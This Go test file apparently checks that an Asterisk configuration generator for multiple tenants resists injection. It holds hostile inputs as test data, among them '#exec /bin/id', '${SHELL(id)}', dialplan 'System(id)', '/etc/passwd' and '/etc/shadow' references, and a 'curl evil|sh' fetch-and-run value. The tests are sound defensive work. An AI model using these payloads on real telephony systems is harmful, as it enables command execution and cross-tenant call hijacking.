package asterisk_test

import (
	"bytes"
	"cmp"
	"fmt"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/ringfence/ringfence/asterisk"
	"github.com/ringfence/ringfence/asterisk/conf"
	"github.com/ringfence/ringfence/confdsvc"
)

var hostileTexts = []string{
	"Bob\"\n[evil]\ntype=endpoint", "a;b", "#exec /bin/id", "\n#exec /bin/id", "${SHELL(id)}", "$[1+1]", "[x](!)", `trailing\`, "a,b|c=d", "a)b(c", `"`, ";--", "--;",
	"x\nexten => s,1,System(id)", "\r\n[general]\nexternnotify=/bin/id", "é|ü,漢", "\x00", "a\tb", "%41${URIDECODE(%41)}", "a&b@c/d", "'; DROP", "\u2028[x]", `\"`, `\;`,
}

// withTexts is the company with one text wherever somebody may type one.
func withTexts(tb testing.TB, typed string) *confdsvc.Snapshot {
	tb.Helper()
	s := company(tb)
	for _, c := range s.Contexts {
		c.Label, c.Description = typed, &typed
	}
	quoted := `"` + typed + `"`
	for _, u := range s.Users {
		u.Firstname, u.CallerID, u.OutgoingCallerID, u.PreprocessSubroutine, u.Userfield = typed, &quoted, &typed, &typed, &typed
		u.MobileFallbackEnabled, u.MobilePhoneNumber, u.MusicOnHold = true, new("+1"+typed), &typed
		u.Fallbacks.Busy = &confdsvc.Destination{}
		*u.Fallbacks.Busy = *to(tb, `{"type": "sound", "filename": `+quote(tb, typed)+`}`)
		u.Fallbacks.Fail = to(tb, `{"type": "extension", "context": `+quote(tb, typed)+`, "exten": "1"}`)
	}
	for _, v := range s.Voicemails {
		v.Name, v.Email, v.Pager, v.Timezone, v.Language = typed, &typed, &typed, &typed, &typed
		v.Options.V = [][]string{{"emailbody", typed}, {"emailsubject", typed}, {typed, "x"}, {"mailcmd", typed}}
	}
	for _, g := range s.Groups {
		g.Label, g.CallerIDMode, g.CallerIDName, g.MusicOnHold, g.PreprocessSubroutine = typed, new("append"), &typed, &typed, &typed
		g.Members.Extensions = []confdsvc.GroupNumber{{Exten: typed, Context: inside}, {Exten: "1", Context: typed}}
	}
	for _, i := range s.Incalls {
		i.CallerIDMode, i.CallerIDName, i.GreetingSound, i.Description = new("prepend"), &typed, &typed, &typed
	}
	for _, e := range s.Endpoints {
		e.Label = &typed
		e.Endpoint.V = append(e.Endpoint.V, []string{"callerid", typed}, []string{"set_var", "own=" + typed}, []string{"set_var", typed + "=1"},
			[]string{"accountcode", typed}, []string{"moh_suggest", typed}, []string{"named_call_group", typed}, []string{"language", typed}, []string{typed, typed})
		e.AOR.V = append(e.AOR.V, []string{"contact", typed})
	}
	for _, t := range s.Transports {
		t.Options.V = append(t.Options.V, []string{"domain", typed})
	}
	s.Applications = []*confdsvc.Application{{UUID: reception, TenantUUID: acme, Name: &typed, Destination: new("node"), Options: confdsvc.NodeOptions{MusicOnHold: &typed}}}
	s.Music = []*confdsvc.MOH{{UUID: "m", TenantUUID: acme, Name: "moh-acme-1", Label: typed, Mode: "custom", Application: &typed}}
	s.Zones = append(s.Zones, confdsvc.ZoneMessage{Name: typed, Timezone: "Europe/Paris", Message: &typed}, confdsvc.ZoneMessage{Name: "own", Timezone: "Europe/Paris", Message: &typed})
	s.VoicemailGeneral = map[string]string{"emailbody": typed, "emailsubject": typed, "externnotify": typed, "mailcmd": typed, typed: typed, "fromstring": typed}
	return s
}

func quote(tb testing.TB, s string) string {
	tb.Helper()
	return string(mustJSON(tb, s))
}

// places are the sections and the names of values of a file, in order.
func places(f *conf.File) (out []string) {
	for _, s := range f.Sections {
		out = append(out, "["+s.Name+"]")
		for _, v := range s.Values {
			out = append(out, v.Name)
		}
	}
	return out
}

// What somebody types changes values at most: the files have the same sections and names as with a text that nobody could mistake, but
// for options whose form it does not have.
func FuzzTypedTextsAreNoSyntax(f *testing.F) {
	for _, typed := range hostileTexts {
		f.Add(typed)
	}
	plain := checkFiles(f, generate(f, withTexts(f, "a,b")))
	optional := map[string]bool{"contact": true, "accountcode": true, "language": true, "domain": true, "named_call_group": true, "moh_suggest": true, "set_var": true}
	without := func(names []string) []string {
		return slices.DeleteFunc(names, func(name string) bool { return optional[name] })
	}
	f.Fuzz(func(t *testing.T, typed string) {
		if typed == "" || len(typed) > 1000 {
			t.Skip("no text, or one that no field takes")
		}
		if asterisk.Sensible(typed) {
			t.Skip("a sound, a number or a name: it may be one")
		}
		files := generate(t, withTexts(t, typed))
		for name, f := range checkFiles(t, files) {
			if got, want := without(places(f)), without(places(plain[name])); !slices.Equal(got, want) {
				t.Errorf("%q in %s:\ngot  %v\nwant %v", typed, name, got, want)
			}
			for _, s := range f.Sections {
				for _, v := range s.Values {
					if live := v.Name == "exten" || v.Name == "same" || v.Name == "emailbody"; live && strings.Contains(v.Text, "${SHELL") {
						t.Errorf("%q: %s = %s", typed, v.Name, v.Text)
					}
				}
			}
		}
		callers(t, typed, checkFiles(t, files))
	})
}

// encodedName is a name that Asterisk decodes when the call is there.
var encodedName = regexp.MustCompile(`^[^,]+,1,Return\(([A-Za-z0-9_.-]*|\$\{URIDECODE\([A-Za-z0-9_.%-]+\)\})\)$`)

// callers checks that caller IDs have nothing of what was typed but their numbers, and names nothing that is syntax.
func callers(t *testing.T, typed string, files map[string]*conf.File) {
	t.Helper()
	for _, s := range files["pjsip.conf"].Sections {
		if value, ok := s.Get("callerid"); ok && value != cmp.Or(conf.CallerID{Number: conf.Digits(value)}.String(), `""`) {
			t.Errorf("%q: caller ID %q", typed, value)
		}
	}
	for _, v := range files["extensions.conf"].Section("ringfence-names").Values {
		if !encodedName.MatchString(v.Text) {
			t.Errorf("%q: name %q", typed, v.Text)
		}
	}
}

// A name is nowhere but in the dialplan, which needs no reload for it.
func TestANewNameReloadsNoTelephones(t *testing.T) {
	s := company(t)
	before := generate(t, s)
	s.Users[1].CallerID = new(`"Robert"`)
	s.Endpoints[0].Endpoint.V = append(s.Endpoints[0].Endpoint.V, []string{"callerid", `"Alicia" <101>`})
	after := generate(t, s)
	for name := range after {
		if same := bytes.Equal(before[name], after[name]); same != (name != "extensions.conf") {
			t.Errorf("%s: the same is %v", name, same)
		}
	}
	s.Endpoints[0].Endpoint.V = append(s.Endpoints[0].Endpoint.V, []string{"callerid", conf.CallerID{Name: `A "B" \C`, Number: "101"}.String()})
	if text := generate(t, s)["extensions.conf"]; !strings.Contains(string(text), "exten => 1,1,Return(${URIDECODE(A%20%22B%22%20%5CC)})\n") {
		t.Error("quotes in a name are not as they were typed")
	}
	for _, want := range []string{"exten => 1,1,Return(Alicia)\n", "exten => 2,1,Return(${URIDECODE(Alice%20Martin)})\n", "exten => 3,1,Return(Robert)\n"} {
		if !strings.Contains(string(after["extensions.conf"]), want) {
			t.Errorf("no %s", want)
		}
	}
}

// A tenant's own administrator cannot lead into another tenant by what they type into SIP options, or take over who telephones.
func TestNothingLeadsIntoAnotherTenant(t *testing.T) {
	s := company(t)
	s.Endpoints[0].Endpoint.V = append(s.Endpoints[0].Endpoint.V,
		[]string{"context", theirs}, []string{"subscribe_context", "usersharedlines"}, []string{"message_context", "ringfence-users"},
		[]string{"aors", "bob"}, []string{"auth", "bob"}, []string{"outbound_auth", "bob"}, []string{"mailboxes", "100@" + theirs}, []string{"incoming_mwi_mailbox", "1@" + theirs},
		[]string{"identify_by", "ip"}, []string{"call_group", "1"}, []string{"pickup_group", "1"}, []string{"named_pickup_group", "sales"}, []string{"allow_unauthenticated_options", "yes"},
		[]string{"set_var", "WAZO_USERUUID=" + bob}, []string{"set_var", "__WAZO_USERUUID=" + bob}, []string{"set_var", "ringfence_own_mailbox=1@" + theirs},
		[]string{"set_var", "FILE(/etc/passwd)=x"}, []string{"set_var", "DB(ringfence/x/dnd)=1"}, []string{"set_var", "TRANSFER_CONTEXT=" + theirs}, []string{"set_var", "mine=1"},
		[]string{"dtls_private_key", "/etc/shadow"}, []string{"acl", "x"})
	s.Endpoints[0].Identify.V = [][]string{{"match", "0.0.0.0/0"}}
	s.Extensions[0].Context = theirs
	s.Includes = map[confdsvc.ID][]confdsvc.ID{1: {3}}
	s.Users[0].Fallbacks.Busy = to(t, `{"type": "extension", "exten": "101", "context": "`+theirs+`"}`)
	s.Users[1].Fallbacks.Busy = to(t, `{"type": "application", "application": "disa", "context": "`+inside+`", "pin": null}`)
	s.Users[1].Fallbacks.NoAnswer = to(t, `{"type": "custom", "command": "ExecIf(1?System:id)"}`)
	s.Users[1].Fallbacks.Fail = to(t, `{"type": "sound", "filename": "/var/spool/asterisk/voicemail/x"}`)
	s.Customs = []*confdsvc.EndpointCustom{{ID: 1, TenantUUID: acme, Interface: "PJSIP/theirs", Enabled: true}, {ID: 2, TenantUUID: acme, Interface: "Local/1@" + theirs, Enabled: true}}
	s.Lines = append(s.Lines, &confdsvc.Line{ID: 4, TenantUUID: acme, Context: inside}, &confdsvc.Line{ID: 5, TenantUUID: acme, Context: inside})
	s.LineCustom = map[confdsvc.ID]confdsvc.ID{4: 1, 5: 2}
	s.UserLines[2] = []confdsvc.ID{3, 4, 5}
	s.LineUsers[4], s.LineUsers[5] = []confdsvc.ID{2}, []confdsvc.ID{2}
	files := generate(t, s)
	parsed := checkFiles(t, files)
	for _, secret := range []string{theirs + ",", "@" + theirs, "ExecIf(1?", "DISA", "PJSIP/theirs", "/var/spool", "ringfence-fallbacks"} {
		if strings.Contains(string(withoutLibrary(t, files["extensions.conf"])), secret) {
			t.Errorf("extensions.conf has %s", secret)
		}
	}
	var got []string
	for _, v := range parsed["pjsip.conf"].Section("alice").Values {
		got = append(got, v.Name+"="+v.Text)
	}
	text := strings.Join(got, "\n")
	for _, wrong := range []string{theirs, "usersharedlines", "ringfence-users", "=bob", "identify", "mine()", "FILE(", "DB(", bob, "call_group=1\n", "unauthenticated", "dtls", "acl"} {
		if strings.Contains(text, wrong) {
			t.Errorf("%s is in\n%s", wrong, text)
		}
	}
	for _, right := range []string{"named_call_group=" + acme + "-1", "named_pickup_group=" + acme + "-1," + acme + "-sales", "set_var=mine=1", "aors=alice"} {
		if !strings.Contains(text, right) {
			t.Errorf("%s is not in\n%s", right, text)
		}
	}
	if strings.Contains(string(files["pjsip.conf"]), "type = identify") {
		t.Error("a telephone is known by its address")
	}
}

// Asterisk obeys variables with names in capitals: who may set one of them could run a program, or send a call into another tenant.
func TestVariablesThatAsteriskObeys(t *testing.T) {
	for _, typed := range []string{
		"TOUCH_MIXMONITOR=x.wav,,curl evil|sh #", "TOUCH_MIXMONITOR=x.wav", "__TOUCH_MIXMONITOR=x", "MONITOR_EXEC=id", "GOTO_ON_BLINDXFR=" + theirs + "^101^1", "__GOTO_ON_BLINDXFR=a",
		"OUTBOUND_GROUP=" + bob + "@ringfence", "__OUTBOUND_GROUP_ONCE=a", "ABORT_DIALING=1", "DYNAMIC_FEATURES=x", "MINE=1", "Y=1", "X=1", "___mine=1", "_=1", "1a=1", " mine=1", "mine =1",
		"mine=a,b", "mine=a^b", "X_A=a,b", "CHANNEL(language)=en", "X_A(b)=c", "x(y)=z", "mine", "Dialgroup=1", "wazo_userid=1", "RingfenceX=1", "X_A\n=1",
	} {
		s := company(t)
		s.Endpoints[0].Endpoint.V = append(s.Endpoints[0].Endpoint.V, []string{"set_var", typed})
		if got, want := string(generate(t, s)["pjsip.conf"]), string(generate(t, company(t))["pjsip.conf"]); got != want {
			t.Errorf("%q is written", typed)
		}
	}
	for _, typed := range []string{"mine=1", "_mine=1", "__mine=a;b", "X_A=1", "__X_1=1", "Mine=1", "MInE=", "X_a=b=c"} {
		s := company(t)
		s.Endpoints[0].Endpoint.V = append(s.Endpoints[0].Endpoint.V, []string{"set_var", typed})
		var written bool
		for _, v := range checkFiles(t, generate(t, s))["pjsip.conf"].Section("alice").Values {
			written = written || v.Name == "set_var" && v.Text == typed
		}
		if !written {
			t.Errorf("%q is not written", typed)
		}
	}
}

// Asterisk reads no line of 8 KiB. What somebody types cannot make one, which would keep all tenants from being written.
func TestLongValuesAreLeftOut(t *testing.T) {
	for _, char := range []string{"a", ";", "漢"} {
		long := strings.Repeat(char, 4096)
		s := company(t)
		e := s.Endpoints[0]
		e.Endpoint.V = append(e.Endpoint.V, []string{"callerid", long}, []string{"set_var", "own=" + long}, []string{"accountcode", long}, []string{"call_group", strings.Repeat("1234567,", 500)}, []string{"allow", "ulaw" + strings.Repeat(",alaw", 800)})
		groups := ""
		for i := range 400 {
			groups += strconv.Itoa(i) + ","
			name := fmt.Sprintf("%071d", i)
			other := *s.Endpoints[2]
			other.UUID, other.TenantUUID, other.Name = name, acme, name
			s.Endpoints = append(s.Endpoints, &other)
			id := confdsvc.ID(1000 + i)
			s.Lines = append(s.Lines, &confdsvc.Line{ID: id, TenantUUID: acme, Context: inside})
			s.LineSIP[id], s.LineUsers[id], s.UserLines[2] = name, []confdsvc.ID{2}, append(s.UserLines[2], id)
		}
		s.Endpoints[1].Endpoint.V = append(s.Endpoints[1].Endpoint.V, []string{"pickup_group", groups})
		s.Endpoints[1].Auth.V = [][]string{{"username", "x"}, {"password", long}}
		s.VoicemailGeneral = map[string]string{"emailbody": long, "emailsubject": long}
		s.Zones = append(s.Zones, confdsvc.ZoneMessage{Name: "long", Timezone: "Europe/Paris", Message: &long})
		for range 50 {
			s.Voicemails[0].Options.V = append(s.Voicemails[0].Options.V, []string{"emailbody", long}, []string{"emailsubject", long[:999]}, []string{"fromstring", "x"})
		}
		s.Voicemails[0].Options.V = append(s.Voicemails[0].Options.V, []string{"emailbody", "last"})
		files, _, err := asterisk.Generate(s, asterisk.Options{})
		if err != nil {
			t.Fatalf("%s: %v", char, err)
		}
		if box := grepped(string(files["voicemail.conf"]), "101 =>"); strings.Count(box, "emailbody=last") != 1 || strings.Count(box, "fromstring") != 1 {
			t.Errorf("the mailbox is %s", box)
		}
		for name, text := range files {
			for line := range strings.Lines(string(text)) {
				if len(line) > 6000 {
					t.Errorf("%s: %s has a line of %d bytes", char, name, len(line))
				}
			}
		}
	}
}

// Mailboxes are found by their context alone, which belongs to one tenant.
func TestMailboxesAreNotSearchedInAllContexts(t *testing.T) {
	s := company(t)
	s.VoicemailGeneral = map[string]string{"searchcontexts": "yes"}
	if strings.Contains(string(generate(t, s)["voicemail.conf"]), "searchcontexts") {
		t.Error("searchcontexts is written")
	}
}

// Who forwards or transfers a call to a feature code does not use it on behalf of who called. Only a message may be left that way.
func TestCodesWorkOnlyForWhoDialsThem(t *testing.T) {
	s := company(t)
	s.Features = nil
	for feature, exten := range map[string]string{
		"phoneprogfunckey": "_*735.", "enablednd": "*25", "incallfilter": "*27", "callrecord": "*26", "fwdunc": "_*21.", "fwdbusy": "_*23.", "fwdrna": "_*22.", "fwdundoall": "*20",
		"enablevm": "*90", "vmusermsg": "*98", "vmboxslt": "_*97.", "pickup": "_*8.", "phonestatus": "*10", "directoryaccess": "*11",
		"groupmembertoggle": "_*50.", "groupmemberjoin": "_*51.", "groupmemberleave": "_*52.", "vmboxmsgslt": "_*96.", "recsnd": "*9",
	} {
		s.Features = append(s.Features, &confdsvc.ExtensionFeature{Feature: feature, Exten: exten, Context: "xivo-features", Enabled: true})
	}
	const guard, ends = `1,Gosub(ringfence-service,dialled,1)`, `n,GotoIf($["${RINGFENCE_HOPS}${BLINDTRANSFER}${ATTENDEDTRANSFER}" != ""]?ringfence-end,nowhere,1)`
	codes := 0
	f := checkFiles(t, generate(t, s))["extensions.conf"]
	if service := f.Section("ringfence-service").Values; !strings.HasPrefix(service[0].Text, "dialled,1,") || service[1].Text != ends || service[2].Text != "n,Return()" {
		t.Errorf("the guard is %v", service[:3])
	}
	for _, v := range f.Section("xivo-features").Values {
		exten, does, _ := strings.Cut(v.Text, ",")
		if v.Name != "exten" || strings.HasPrefix(does, "hint,") {
			continue
		}
		codes++
		if open := exten == "_*96." || exten == "*9"; open == (does == guard) {
			t.Errorf("%s,%s", exten, does)
		}
	}
	if codes < 18 {
		t.Errorf("%d codes", codes)
	}
}

// Asterisk refuses an endpoint with an option that it does not know, or options that contradict each other.
func TestOptionsThatAsteriskRefuses(t *testing.T) {
	for _, tt := range []struct {
		options [][]string
		want    string // "": none of them
	}{
		{[][]string{{"allow", "!all, ulaw,!opus"}}, "allow=!all,ulaw,!opus"},
		{[][]string{{"allow", "ulaw,nosuch"}}, "allow=!all,ulaw,alaw"},
		{[][]string{{"timers_min_se", "1801"}}, ""},
		{[][]string{{"timers_min_se", "1800"}}, "timers_min_se=1800"},
		{[][]string{{"timers_min_se", "200"}, {"timers_sess_expires", "199"}}, "timers_sess_expires=199"},
		{[][]string{{"callerid_privacy", "allowed_passed_screened"}}, ""},
		{[][]string{{"callerid_privacy", "prohib_failed_screen"}}, "callerid_privacy=prohib_failed_screen"},
	} {
		s := company(t)
		s.Endpoints[0].Endpoint.V = tt.options
		got := ""
		for _, v := range checkFiles(t, generate(t, s))["pjsip.conf"].Section("alice").Values {
			if name := v.Name; slices.ContainsFunc(tt.options, func(pair []string) bool { return pair[0] == name }) {
				got += v.Name + "=" + v.Text
			}
		}
		if got != tt.want {
			t.Errorf("%v: got %q, want %q", tt.options, got, tt.want)
		}
	}
}

// The same number in two contexts is two members of a group.
func TestGroupRingsANumberInTwoContexts(t *testing.T) {
	s := company(t)
	second := *s.Contexts[0]
	second.ID, second.UUID, second.Name = 99, "99", "ctx-acme-internal-99"
	s.Contexts = append(s.Contexts, &second)
	s.Extensions = append(s.Extensions, &confdsvc.Extension{ID: 99, TenantUUID: acme, Exten: "102", Context: second.Name, Enabled: true})
	s.LineExtensions[3] = append(s.LineExtensions[3], 99)
	n := confdsvc.GroupNumber{Exten: "102", Context: inside}
	s.Groups[0].Members.Extensions = []confdsvc.GroupNumber{n, {Exten: "102", Context: second.Name}, n}
	files := generate(t, s)
	if text := string(files["queues.conf"]); strings.Count(text, "Local/1n102@") != 1 || strings.Count(text, "Local/1n102n2@") != 1 {
		t.Errorf("%s", grepped(text, "member"))
	}
	if text := string(files["extensions.conf"]); !strings.Contains(text, "exten => 1n102n2,1,") || !strings.Contains(text, "Goto("+second.Name+",102,1)") {
		t.Errorf("%s", grepped(text, "1n102"))
	}
}

// A line that rings a number that is not there has a lamp that is dark: nothing else fails.
func TestLampOfAMissingNumber(t *testing.T) {
	s := company(t)
	s.Customs = []*confdsvc.EndpointCustom{{ID: 1, TenantUUID: acme, Interface: "Local/999@" + inside, Enabled: true}}
	s.Lines = append(s.Lines, &confdsvc.Line{ID: 4, TenantUUID: acme, Context: inside})
	s.LineCustom, s.UserLines[2], s.LineUsers[4] = map[confdsvc.ID]confdsvc.ID{4: 1}, []confdsvc.ID{3, 4}, []confdsvc.ID{2}
	if text := generate(t, s)["extensions.conf"]; !strings.Contains(string(text), "&Local/999@"+inside) {
		t.Error("it is not there")
	}
}

// An endpoint without a password would let everybody telephone as it.
func TestEndpointsNeedAPassword(t *testing.T) {
	for name, edit := range map[string]func(e *confdsvc.EndpointSIP){
		"no options":  func(e *confdsvc.EndpointSIP) { e.Auth.V = nil },
		"no password": func(e *confdsvc.EndpointSIP) { e.Auth.V = [][]string{{"username", "alice"}} },
		"empty":       func(e *confdsvc.EndpointSIP) { e.Auth.V = [][]string{{"username", "alice"}, {"password", ""}} },
		"anonymous":   func(e *confdsvc.EndpointSIP) { e.Name = "anonymous" },
	} {
		t.Run(name, func(t *testing.T) {
			s := company(t)
			edit(s.Endpoints[0])
			f := checkFiles(t, generate(t, s))
			if f["pjsip.conf"].Section("alice") != nil || f["pjsip.conf"].Section("anonymous") != nil {
				t.Error("it is there")
			}
			if f["pjsip.conf"].Section("alice-web") == nil {
				t.Error("the user's other line is missing")
			}
		})
	}
}

// What is disabled, or gone, is left out, and what led there ends.
func TestDisabledObjectsAreLeftOut(t *testing.T) {
	s := company(t)
	s.Users[0].Enabled = new(false)
	s.Voicemails[0].Enabled = false
	s.Groups[0].Enabled = false
	s.Users[1].Fallbacks.Busy = to(t, `{"type": "group", "group_id": 1}`)
	s.Users[1].Fallbacks.NoAnswer = to(t, `{"type": "voicemail", "voicemail_id": 1}`)
	s.Users[1].Fallbacks.Fail = to(t, `{"type": "user", "user_id": 99}`)
	files := generate(t, s)
	for _, gone := range []string{alice, sales, "ringfence-fallbacks,", "exten => 101", "exten => 200"} {
		if strings.Contains(string(withoutLibrary(t, files["extensions.conf"])), gone) {
			t.Errorf("extensions.conf has %s", gone)
		}
	}
	if f := checkFiles(t, files); f["pjsip.conf"].Section("alice") != nil || f["voicemail.conf"].Section(inside) != nil || f["queues.conf"].Section("grp-acme-1") != nil {
		t.Error("something is left")
	}
	if !strings.Contains(string(files["extensions.conf"]), "exten => 1,1,Set(__WAZO_TENANT_UUID="+acme+")\nsame => n,Set(WAZO_CALLORIGIN=extern)\nsame => n,Gosub(ringfence-hop,s,1)\nsame => n,Goto(ringfence-end,nowhere,1)\n") {
		t.Error("the incoming call does not end")
	}
}

// A command is written only if it does no more than its caller hears. What would be silent before an answer is answered, or announced.
func TestCommands(t *testing.T) {
	for typed, want := range map[string]string{
		"Playback(tt-weasels)": "Playback(tt-weasels)", "Wait(5)": "Wait(5)", "PlayTones(busy)": "Answer()\nsame => n,PlayTones(busy)",
		"saydigits(123)": "Answer()\nsame => n,SayDigits(123)", "MusicOnHold(default,10)": "Answer()\nsame => n,MusicOnHold(default,10)",
		"playback(tt-weasels,noanswer)": "Progress()\nsame => n,Playback(tt-weasels,noanswer)",
		"System(id)":                    "", "AGI(x)": "", "Exec(System,id)": "", "ExecIf(1?System:id)": "", "Goto(ringfence-users,x,1)": "", "Dial(PJSIP/x)": "", "Set(X=1)": "",
		"Playback(/etc/passwd)": "", "Playback(a/../../b)": "", "Playback(http://x/y)": "", "Playback(a&b)": "", "Playback(${X})": "", "Playback($[1])": "", "Playback(a);x": "",
		"MusicOnHold(moh-other)": "", "VoiceMail(1@x)": "", "Verbose(1)": "",
	} {
		s := company(t)
		s.Users[0].Fallbacks.Busy = to(t, `{"type": "custom", "command": `+quote(t, typed)+`}`)
		text := string(withoutLibrary(t, generate(t, s)["extensions.conf"]))
		if want == "" && strings.Contains(text, alice+"-busy") || want != "" && !strings.Contains(text, "exten => "+alice+"-busy,1,"+want+"\nsame => n,Hangup()\n") {
			t.Errorf("%s: want %q, got\n%s", typed, want, grepped(text, alice+"-busy"))
		}
	}
}

// grepped returns the lines of a text that hold a word.
func grepped(text, word string) (out string) {
	for line := range strings.Lines(text) {
		if strings.Contains(line, word) {
			out += line
		}
	}
	return out
}

// A mailbox without a PIN opens for its owner's telephone alone.
func TestMailboxWithoutPIN(t *testing.T) {
	s := company(t)
	s.Voicemails[0].Password = nil
	files := generate(t, s)
	if !strings.Contains(string(files["voicemail.conf"]), "\n101 => none,Alice Martin,") {
		t.Errorf("%s", files["voicemail.conf"])
	}
	if !strings.Contains(string(files["pjsip.conf"]), "set_var = RINGFENCE_OWN_MAILBOX_OPTIONS=s\n") {
		t.Error("the owner is asked for a PIN")
	}
}

// An application runs with a context of the tenant's own alone. Nothing else is wrong with these destinations.
func TestApplicationsWithAnotherTenantsContext(t *testing.T) {
	for destination, runs := range map[string]string{
		`"application": "disa", "pin": "1234"`: "DISA(1234,%s)",
		`"application": "directory"`:           "Directory(%s",
		`"application": "voicemail"`:           "VoiceMailMain(@%s)",
	} {
		for in, want := range map[string]bool{inside: true, theirs: false} {
			s := company(t)
			s.Users[1].Fallbacks.Fail = to(t, `{"type": "application", `+destination+`, "context": "`+in+`"}`)
			text := string(withoutLibrary(t, generate(t, s)["extensions.conf"]))
			if got := strings.Contains(text, fmt.Sprintf(runs, in)); got != want {
				t.Errorf("%s in %s: runs %t", destination, in, got)
			}
		}
	}
}
